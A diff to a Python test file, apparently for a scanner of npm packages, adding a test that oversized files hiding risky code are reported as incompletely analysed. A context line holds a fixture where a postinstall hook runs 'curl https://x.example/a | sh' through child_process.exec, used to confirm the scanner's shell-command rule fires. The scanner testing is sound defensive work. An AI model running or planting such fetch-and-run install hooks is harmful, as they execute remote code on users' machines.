@@ -107,3 +107,13 @@ def test_lone_surrogates_from_escapes_do_not_break_matching():
     found = analyze({"index.js": "const cp = require('child_process');\ncp.exec('curl \\ud800 https://x.example/a | sh');\n"},
                     scripts={"postinstall": "node index.js"}, seconds=20)
     assert "code/shell-command" in rules(found)
+
+
+def test_a_file_too_large_to_read_is_reported_when_it_holds_anything_risky():
+    filler = "var a" + "0" * 60 + " = 1;\n"
+    big = filler * (8_100_000 // len(filler))
+    quiet = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big}, seconds=30)
+    assert "code/analysis-incomplete" not in rules(quiet)  # nothing any rule reads: nothing left unread
+    risky = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big + EVIL}, seconds=30)
+    incomplete = next(f for f in risky if f.rule == "code/analysis-incomplete")
+    assert "data/table.js" in incomplete.details["unread"][0] and decide(risky).level is Level.SUSPICIOUS
